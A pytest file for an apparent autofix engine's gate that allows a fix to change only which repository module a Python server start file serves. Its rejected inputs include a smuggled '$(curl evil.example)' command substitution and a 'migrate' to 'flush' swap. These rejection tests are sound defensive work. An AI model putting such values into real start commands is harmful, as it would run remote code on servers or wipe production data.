"""What a fix may change where a server of Python is started."""

from __future__ import annotations

import pytest

from autofix.engine.gates.server_targets import only_serves_another, starts_servers

FILES = ["backend/main.py", "api/__init__.py", "manage.py"]
WEB = b"release: python manage.py migrate\nweb: gunicorn shop.wsgi:app --workers 2\n"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (WEB, WEB.replace(b"shop.wsgi:app", b"backend.main:app")),
        (b'CMD ["uvicorn", "main:app"]', b'CMD ["uvicorn", "api:app"]'),
        (WEB, WEB),
    ],
)
def test_another_module_of_the_repository_may_be_served(before, after):
    assert only_serves_another(before, after, FILES)


@pytest.mark.parametrize(
    "after",
    [
        WEB.replace(b"shop.wsgi:app", b"elsewhere.main:app"),
        WEB.replace(b"--workers 2", b"--workers 4"),
        WEB.replace(b"shop.wsgi:app", b"backend.main:app").replace(b"migrate", b"flush"),
        WEB.replace(b"gunicorn", b"python"),
        WEB.replace(b"shop.wsgi:app", b"backend.main:app --reload"),
        WEB.replace(b"shop.wsgi:app", b"$(curl evil.example)"),
        WEB + b"worker: gunicorn backend.main\n",
    ],
    ids=["a module from elsewhere", "an option", "another command", "the program", "one more", "no module", "a line"],
)
def test_nothing_else_may_differ(after):
    assert not only_serves_another(WEB, after, FILES)


def test_files_that_start_servers_are_known_by_name():
    assert [name for name in ("procfile", "dockerfile.prod", "render.yaml", "makefile") if starts_servers(name)] == [
        "procfile",
        "dockerfile.prod",
        "render.yaml",
    ]
